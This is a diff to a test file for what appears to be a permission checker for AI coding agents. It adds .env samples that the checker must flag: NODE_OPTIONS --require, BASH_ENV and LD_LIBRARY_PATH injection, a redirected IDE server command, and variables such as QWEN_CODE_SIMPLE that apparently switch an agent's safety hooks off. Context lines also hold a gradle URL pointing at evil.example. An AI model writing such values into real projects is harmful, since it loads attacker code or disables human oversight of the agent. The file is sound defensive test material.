@@ -217,6 +217,10 @@ HARMLESS = [
     ("mise.toml", "", '[tools]\nnode = "22"\npython = ["3.12", "3.13"]\n[tasks.test]\nrun = "pytest"\n'),
     ("rust-toolchain.toml", "", '[toolchain]\nchannel = "1.80"\ncomponents = ["clippy"]\n'),
     ("rust-toolchain", "", "nightly-2026-01-01\n"),
+    (".env", "", "PORT=3000\nBUILD_ID=7\nFIELD_ONE=a\nOPENSSL=1\nENV=dev\n# LD_PRELOAD is not for here\n"),
+    (".env", "", "NODE_OPTIONS='--max-old-space-size=4096 --no-warnings'\n"),
+    (".env", "QWEN_CODE_SIMPLE=1\n", "PORT=3000\nQWEN_CODE_SIMPLE=1\n"),
+    (".env", "QWEN_CODE_SIMPLE=1\n", "PORT=3000\n"),
     (
         "gradle/wrapper/gradle-wrapper.properties",
         "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.5-bin.zip\n",
@@ -245,6 +249,16 @@ COUNTS = [
     ("mise.toml", "", "[tools]\nnode = \"{{ exec(command='x') }}\"\n"),
     ("rust-toolchain.toml", "", '[toolchain]\npath = "/tmp/x"\n'),
     ("rust-toolchain", "", "/tmp/x\n"),
+    (".env", "", "QWEN_CODE_SIMPLE=1\n"),
+    (".env", "PORT=3000\n", "PORT=3000\nexport  QWEN_CODE_SAFE_MODE = 'yes'\n"),
+    (".env", "", "PORT=3000\nQWEN_CODE_SIMPLE: true\n"),
+    (".env", "", "QWEN_CODE_SIMPLE\n=1\n"),
+    (".env", "QWEN_CODE_SIMPLE=0\n", "QWEN_CODE_SIMPLE=1\n"),
+    (".env", "", "NODE_OPTIONS=--max-old-space-size=4096 --require ./x.js\n"),
+    (".env", "", 'NODE_OPTIONS="--no-warnings\n--require ./x.js"\n'),
+    (".env", "", "LD_LIBRARY_PATH=lib\n"),
+    (".env", "", "BASH_ENV=./x.sh\n"),
+    (".env", "", "GEMINI_CLI_IDE_SERVER_STDIO_COMMAND=./x\n"),
     ("gradle/wrapper/gradle-wrapper.properties", "", "distributionUrl=https\\://evil.example/gradle.zip\n"),
     (
         "gradle/wrapper/gradle-wrapper.properties",
@@ -265,6 +279,16 @@ def test_everyday_text_is_free(path: str, old: str, new: str, ground: Ground) ->
     assert shell(ground, f"cat > {path} <<'EOF'\n{new}\nEOF") == []
     if old:
         assert tool(ground, "Edit", path, old_string=old, new_string=new) == []
+
+
+def test_a_variable_that_switches_hooks_off_is_asked_about_however_a_line_ends_and_in_the_permissive_mode(
+    tmp_path: Path,
+) -> None:
+    assert not is_harmless(".env", "", "PORT=3000\rQWEN_CODE_SIMPLE=1")
+    for mode in ("default", "permissive"):
+        policy = tmp_path / f"{mode}.toml"
+        policy.write_text(f'version = 1\napproval_mode = "{mode}"\n')
+        assert decide_call("echo QWEN_CODE_SIMPLE=1 >> .env", policy=policy).verdict.name == "ask"
 
 
 @pytest.mark.parametrize(("path", "old", "new"), COUNTS)
